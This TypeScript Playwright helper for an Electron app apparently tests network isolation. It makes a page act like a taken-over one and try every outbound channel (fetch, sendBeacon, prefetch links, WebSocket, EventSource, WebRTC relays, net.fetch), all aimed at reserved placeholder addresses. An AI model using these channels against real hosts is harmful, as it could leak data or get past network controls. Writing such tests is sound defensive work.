import type { ElectronApplication, Page } from '@playwright/test';

/** Addresses that nobody has (RFC 2606, RFC 5737), by which one knows who asked. */
const name = 'http://somebody.example/';
const direct = 'http://192.0.2.80/';
const relays = [
  { urls: 'stun:192.0.2.78:3478' },
  { urls: 'turn:192.0.2.78:3478?transport=tcp', username: 'words', credential: 'words' },
];
const candidates = [
  'candidate:1 1 udp 2130706431 192.0.2.77 9999 typ host',
  'candidate:2 1 tcp 1518280447 192.0.2.77 9998 typ host tcptype passive',
];

/**
 * Lets the page and the browser behind it ask for the network in every way there is, as one that was taken over might.
 * Waits until what that sends would have been sent.
 */
export async function provoke(app: ElectronApplication, page: Page): Promise<void> {
  await page.evaluate(
    ({ addresses, iceServers, callees }) => {
      const never = () => undefined;
      for (const [at, address] of addresses.entries()) {
        fetch(address).catch(never);
        new Image().src = `${address}picture.png`;
        navigator.sendBeacon(address, 'words');
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'stylesheet', 'icon']) {
          const link = document.createElement('link');
          Object.assign(link, { rel, href: `${address}${rel}${at}`, as: 'style' });
          document.head.append(link);
        }
        try {
          new WebSocket(address.replace('http', 'ws')).onerror = never;
          new EventSource(address).onerror = never;
        } catch {
          // Refused at once.
        }
      }
      // A call to somebody whose address is known already asks nobody for it.
      const caller = new RTCPeerConnection({ iceServers });
      const called = new RTCPeerConnection();
      caller.createDataChannel('words');
      const call = async () => {
        await caller.setLocalDescription(await caller.createOffer());
        if (caller.localDescription === null) return;
        await called.setRemoteDescription(caller.localDescription);
        await called.setLocalDescription(await called.createAnswer());
        if (called.localDescription === null) return;
        await caller.setRemoteDescription(called.localDescription);
        for (const candidate of callees) await caller.addIceCandidate({ candidate, sdpMid: '0' });
      };
      call().catch(never);
    },
    { addresses: [name, direct], iceServers: relays, callees: candidates },
  );
  await app.evaluate(
    async ({ net, session }, addresses) => {
      const never = () => undefined;
      for (const address of addresses) net.fetch(address).catch(never);
      session.defaultSession.resolveHost('somebody.example').catch(never);
      session.defaultSession.preconnect({ url: addresses[0] });
    },
    [name, direct] as const,
  );
  await page.waitForTimeout(3_000);
}
